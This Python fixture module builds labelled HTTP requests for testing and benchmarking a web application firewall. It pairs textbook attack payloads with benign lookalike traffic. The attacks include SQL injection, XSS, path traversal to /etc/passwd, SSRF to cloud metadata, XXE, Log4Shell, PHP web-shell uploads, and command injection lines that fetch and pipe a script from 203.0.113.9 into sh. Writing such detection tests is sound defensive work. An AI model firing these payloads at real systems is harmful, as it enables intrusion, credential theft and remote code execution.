"""Traffic for judging a rule set: attacks that it should find, honest requests that it should not.

Each row is a request; the tests and ``benchmarks/waf.py`` share them. The attacks are textbook
ones, several of a kind, in the places where they come: query, path, form, JSON, fields, uploads.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from urllib.parse import quote, urlencode

from attrs import field, frozen

BROWSER = (
    (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    (b"accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"accept-language", b"en-GB,en;q=0.5"),
    (b"accept-encoding", b"gzip, deflate, br"),
)
FORM = b"application/x-www-form-urlencoded"
JSON = b"application/json"


@frozen
class Sample:
    """One request, of a kind, by a name."""

    kind: str
    name: str
    target: bytes = b"/"
    method: bytes = b"GET"
    fields: Sequence[tuple[bytes, bytes]] = BROWSER
    body: bytes = b""
    content_type: bytes = field(default=b"")

    @property
    def all_fields(self) -> list[tuple[bytes, bytes]]:
        own = [(b"host", b"shop.example"), *self.fields]
        if self.method in (b"POST", b"PUT", b"PATCH"):
            own += [
                (b"content-type", self.content_type),
                (b"content-length", b"%d" % len(self.body)),
            ]
        return own

    @property
    def parts(self) -> list[bytes]:
        """What an engine is asked, for its first rule set."""
        fixed = [b"request", b"0", b"198.51.100.7", self.method, self.target, b"1.1", b"r1"]
        return [*fixed, b"1", self.body, *(part for line in self.all_fields for part in line)]


def _query(kind: str, *values: str) -> list[Sample]:
    return [
        Sample(kind, f"query: {value[:40]}", b"/search?q=" + quote(value, safe="").encode())
        for value in values
    ]


def _form(kind: str, *values: str) -> list[Sample]:
    return [
        Sample(
            kind,
            f"form: {value[:40]}",
            b"/contact",
            b"POST",
            body=urlencode({"name": "Ann", "text": value}).encode(),
            content_type=FORM,
        )
        for value in values
    ]


def _json(kind: str, *values: object) -> list[Sample]:
    return [
        Sample(
            kind,
            f"json: {str(value)[:40]}",
            b"/api/items",
            b"POST",
            body=json.dumps({"id": 7, "text": value}).encode(),
            content_type=JSON,
        )
        for value in values
    ]


def _path(kind: str, *targets: bytes) -> list[Sample]:
    return [Sample(kind, f"path: {target.decode()[:40]}", target) for target in targets]


def _field(kind: str, name: bytes, *values: bytes) -> list[Sample]:
    rest = [line for line in BROWSER if line[0] != name]
    return [
        Sample(
            kind,
            f"{name.decode()}: {value.decode('latin-1')[:40]}",
            fields=(*rest, (name, value)),
        )
        for value in values
    ]


def _upload(kind: str, filename: str, content: bytes, type_: str = "image/png") -> Sample:
    body = (
        f'--b0und\r\nContent-Disposition: form-data; name="title"\r\n\r\nA picture\r\n'
        f'--b0und\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n'
        f"Content-Type: {type_}\r\n\r\n"
    ).encode() + content
    return Sample(
        kind,
        f"upload: {filename}",
        b"/upload",
        b"POST",
        body=body + b"\r\n--b0und--\r\n",
        content_type=b"multipart/form-data; boundary=b0und",
    )


_SQL = (
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "admin'--",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)-- -",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1' and extractvalue(1,concat(0x7e,version()))-- -",
)
_XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "<a href=\"jav&#x09;ascript:alert('x')\">x</a>",
)
_COMMAND = (
    "; cat /etc/passwd",
    "| /bin/ls -la",
    "$(whoami)",
    "`wget http://203.0.113.9/x.sh`",
    "a; curl http://203.0.113.9/ | sh",
    "& ping -c 10 127.0.0.1 &",
    "() { :;}; /bin/bash -c 'id'",
)
_TRAVERSAL = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "php://filter",
)
_INCLUSION = (
    "http://203.0.113.9/shell.txt",
    "http://203.0.113.9/evil.php?",
    "ftp://user:pw@203.0.113.9/x",
)
_CODE = (
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://203.0.113.9/a}",
    'O:8:"stdClass":1:{s:1:"a";s:4:"evil";}',
    "require('child_process').exec('id')",
    "java.lang.Runtime.getRuntime().exec('id')",
)

ATTACKS = (
    *_query("sql injection", *_SQL),
    *_form("sql injection", *_SQL),
    *_json("sql injection", *_SQL),
    *_field("sql injection", b"cookie", b"id=1' OR '1'='1", b"id=1 UNION SELECT 1,2 FROM users--"),
    *_query("cross-site scripting", *_XSS),
    *_form("cross-site scripting", *_XSS),
    *_json("cross-site scripting", *_XSS),
    *_field("cross-site scripting", b"referer", b"https://x/<script>alert(1)</script>"),
    *_query("command injection", *_COMMAND),
    *_form("command injection", *_COMMAND),
    *_json("command injection", *_COMMAND),
    *_field("command injection", b"user-agent", b"() { :; }; /bin/cat /etc/passwd"),
    *_query("traversal", *_TRAVERSAL),
    *_form("traversal", *_TRAVERSAL),
    *_path(
        "traversal",
        b"/static/../../etc/passwd",
        b"/static/..%2f..%2fetc%2fpasswd",
        b"/%2e%2e/%2e%2e/etc/passwd",
        b"/static/..%c0%af..%c0%afetc/passwd",
        b"/.git/config",
        b"/.env",
    ),
    *_query("remote inclusion and SSRF", *_INCLUSION),
    *_query(
        "remote inclusion and SSRF",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:22/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
    ),
    *_query("code injection", *_CODE),
    *_form("code injection", *_CODE),
    *_json("code injection", *_CODE),
    *_field("scanner", b"user-agent", b"sqlmap/1.7", b"Nikto/2.5", b"masscan/1.3", b"nmap nse"),
    Sample("protocol", "null byte", b"/a?b=%00"),
    Sample("protocol", "bad escape", b"/a?b=%zz%1"),
    Sample("protocol", "two content types", b"/", b"POST", body=b"a=1", content_type=b"x/x, y/y"),
    Sample("protocol", "response splitting", b"/a?b=x%0d%0aSet-Cookie:%20a=b"),
    Sample("protocol", "method", method=b"DEBUG"),
    Sample(
        "protocol", "range flood", fields=(*BROWSER, (b"range", b"bytes=" + b"0-1," * 20 + b"2-3"))
    ),
    Sample("protocol", "broken JSON", b"/api", b"POST", body=b'{"a": "b', content_type=JSON),
    Sample(
        "protocol",
        "external entity",
        b"/api",
        b"POST",
        body=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        content_type=b"application/xml",
    ),
    _upload("upload", "shell.php", b"<?php system($_GET['c']); ?>", "application/x-php"),
    _upload("upload", "a.php.png", b"<?php eval($_POST['x']); ?>"),
)

_HONEST_TEXTS = (
    "red shoes",
    "Tom & Jerry's first film",
    "O'Brien",
    "What is the union of two sets?",
    "select a size from the list",
    "100% cotton; 20% off!",
    "Grüße aus München, où êtes-vous? 你好 🙂",
    "a < b and c > d",
    "C++ / C# developer (m/f/d)",
    "me@example.com",
    "https://www.example.org/a/page?x=1&y=2",
    "I like SQL and JavaScript.",
    "x=1; y=2",
    "Please drop the table off at our house.",
    "script for the school play",
    "-- kind regards, Ann",
)
_PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20

HONEST = (
    *_query("search", *_HONEST_TEXTS),
    *_form("form", *_HONEST_TEXTS),
    *_json("json", *_HONEST_TEXTS),
    *_json(
        "json",
        {"nested": {"list": [1, 2.5, None, True, "x"]}, "empty": {}},
        [{"id": number, "name": f"Item {number}", "price": 9.99} for number in range(30)],
        'A longer text.\n\nIt has lines, "quotes", and a (bracketed) remark: 5 < 6 & 7 > 2.',
    ),
    *_path(
        "page",
        b"/",
        b"/shop/items?page=2&sort=price&order=asc",
        b"/static/app.3f2a1b.js",
        b"/images/photo%20of%20me.jpg",
        b"/blog/2026/11/21/how-to-select-a-union?utm_source=a&utm_medium=b",
        b"/%E4%BD%A0%E5%A5%BD",
        b"/api/v1/users/42?fields=id,name,email&expand=orders.items",
        b"/login?next=%2Faccount%2Forders%3Fpage%3D2",
        b"/search?filter%5Bprice%5D%5Bgte%5D=10&filter%5Btags%5D%5B%5D=a",
    ),
    *_field(
        "fields",
        b"cookie",
        b"session=" + b"0123456789abcdef" * 8,
        b"a=1; b=2; _ga=GA1.2.1234567890.1690000000; consent=%7B%22ads%22%3Afalse%7D",
        b"; ".join(b"k%d=%b" % (number, b"v" * 60) for number in range(40)),
    ),
    *_field("fields", b"authorization", b"Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln"),
    *_field("fields", b"referer", b"https://shop.example/items?page=1&q=shoes"),
    *_field("fields", b"if-none-match", b'W/"5f3-abc", "x"'),
    *_field(
        "fields",
        b"user-agent",
        b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
        b"okhttp/4.12.0",
    ),
    Sample("api", "put", b"/api/items/7", b"PUT", body=b'{"name": "x"}', content_type=JSON),
    Sample("api", "patch", b"/api/items/7", b"PATCH", body=b'{"name": "x"}', content_type=JSON),
    Sample("api", "delete", b"/api/items/7", b"DELETE"),
    Sample("api", "options", b"/api/items", b"OPTIONS"),
    Sample("api", "head", b"/", b"HEAD"),
    Sample(
        "api",
        "xml",
        b"/soap",
        b"POST",
        body=b'<?xml version="1.0"?><order><item id="1">Shoes</item></order>',
        content_type=b"application/xml",
    ),
    _upload("upload", "photo.png", _PNG),
    _upload("upload", "report 2026 (final).pdf", b"%PDF-1.7\n" + _PNG, "application/pdf"),
    _upload("upload", "Grüße.txt", "Schöne Grüße".encode(), "text/plain; charset=utf-8"),
    _upload("upload", "table.csv", b"name,price\nshoes,9.99\n", "text/csv"),
)
